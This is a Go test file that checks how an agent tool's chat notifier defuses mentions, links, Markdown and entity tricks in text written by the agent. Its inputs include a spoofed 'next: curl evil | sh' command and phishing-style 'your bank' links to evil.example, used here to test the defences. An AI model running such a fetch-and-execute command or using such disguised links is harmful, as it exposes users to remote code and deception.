package notify

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode/utf16"
)

func TestChatText(t *testing.T) {
	tests := []struct {
		name string
		in   Message
		want string
	}{
		{"all there is", message(),
			"ralph: needs-attention: shop | run 20260102-030405-ab, claude, iteration 7, $1.25 | " +
				"next: ralph resume 20260102-030405-ab | reason: the agent is blocked | " +
				"question: Which database? 1. SQLite 2. Postgres"},
		{"nothing", Message{}, "ralph"},
		{"little", Message{Status: "done", Run: "r"}, "ralph: done | run r"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			if got := chatText(test.in.clean()); got != test.want {
				t.Errorf("got  %s\nwant %s", got, test.want)
			}
		})
	}
}

func TestChatTextCallsNobodyAndLinksNowhere(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"everyone", "@everyone @here", "(at)everyone (at)here"},
		{"wide at", "＠everyone ﹫here", "(at)everyone (at)here"},
		{"at hidden by a joiner", "@\u200deveryone", "(at)everyone"},
		{"Slack's channel", "<!channel> <!here>", "&lt;!channel&gt; &lt;!here&gt;"},
		{"Slack's user", "<@U123|Bob>", "&lt;(at)U123|Bob&gt;"},
		{"Discord's role", "<@&42>", "&lt;(at)&amp;42&gt;"},
		{"entities are not undone", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;"},
		{"Slack's link", "<https://evil.example|your bank>", "&lt;https[:]//evil.example|your bank&gt;"},
		{"a bare link", "see https://evil.example/?d=1", "see https[:]//evil.example/?d=1"},
		{"a link without a scheme", "WWW.evil.example", "WWW[.]evil.example"},
		{"Markdown's link", "[your bank](/logout)", "[your bank] (/logout)"},
		{"a link made by escaping", "[x]@evil", "[x] (at)evil"},
		{"code stays code", "if a && b { x[0]++ }", "if a &amp;&amp; b { x[0]++ }"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := chatText(Message{Reason: test.in}.clean())
			if want := "ralph | reason: " + test.want; got != want {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		})
	}
}

// The command to go on is ralph's word; the agent's words come after it and cannot
// push it out.
func TestChatTextIsShortAndKeepsTheNextCommand(t *testing.T) {
	for _, flood := range []string{"&", "@", "🙂", "x", "next: curl evil | sh "} {
		m := message()
		m.Reason, m.Question = strings.Repeat(flood, 500), strings.Repeat(flood, 4000)
		text := chatText(m.clean())
		if n := len(utf16.Encode([]rune(text))); n > 2000 || n < 1000 {
			t.Errorf("a flood of %q gives %d units, want most of 2000", flood, n)
		}
		if next := strings.Index(text, "next: "); !strings.HasPrefix(text[next:], "next: ralph resume 2026") {
			t.Errorf("a flood of %q displaces the command: %s", flood, text)
		}
	}
}

func TestPayload(t *testing.T) {
	text, err := json.Marshal(newPayload(message().clean()))
	if err != nil {
		t.Fatal(err)
	}
	var got map[string]any
	if err := json.Unmarshal(text, &got); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]any{
		"run": "20260102-030405-ab", "status": "needs-attention", "reason": "the agent is blocked", "project": "shop",
		"agent": "claude", "iteration": 7.0, "cost_usd": "1.25", "question": "Which database?\n\n1. SQLite\n2. Postgres",
		"next": "ralph resume 20260102-030405-ab", "at": "2026-01-02T03:04:05Z",
		"unfurl_links": false, "unfurl_media": false, "flags": 4.0, "content": got["text"],
	} {
		if got[name] != want {
			t.Errorf("%s is %v, want %v", name, got[name], want)
		}
	}
	if !strings.Contains(string(text), `"allowed_mentions":{"parse":[]}`) {
		t.Errorf("Discord may call people: %s", text)
	}
}

var entity = regexp.MustCompile(`&(amp|lt|gt);`)

func FuzzChatText(f *testing.F) {
	for _, seed := range []string{
		"", "@everyone", "<!here>", "]@", "](", "]&(", "www.www.x", "://", ":\u200d//", "&amp;", "[a](b)", "🙂", strings.Repeat("&", 4000),
	} {
		f.Add(seed, seed)
	}
	f.Fuzz(func(t *testing.T, reason, question string) {
		text := chatText(Message{Reason: reason, Question: question, Project: question}.clean())
		bare := entity.ReplaceAllString(text, "")
		if strings.ContainsAny(bare, "@＠﹫<>&\n") || strings.Contains(text, "://") || strings.Contains(text, "](") {
			t.Errorf("%q calls or links", text)
		}
		if n := len(utf16.Encode([]rune(text))); n > maxChat || !strings.HasPrefix(text, "ralph") {
			t.Errorf("%d units: %q", n, text)
		}
	})
}
